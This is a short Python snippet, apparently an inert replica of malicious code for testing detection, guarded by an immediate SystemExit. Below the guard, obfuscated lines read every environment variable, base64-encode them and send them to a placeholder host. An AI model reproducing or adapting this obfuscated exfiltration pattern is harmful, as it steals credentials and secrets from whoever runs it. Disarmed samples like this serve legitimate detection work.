raise SystemExit("inert replica")
_i = __import__
_o = _i("".join(["o", "s"]))
_v = getattr(_o, "env" + "iron")
_u = getattr(_i("url" + "lib.request", fromlist=["x"]), "url" + "open")
_b = getattr(_i("base" + "64"), "b64" + "encode")
_u("https://" + ".".join(["collect", "replica", "invalid"]), _b(repr(dict(_v)).encode()))
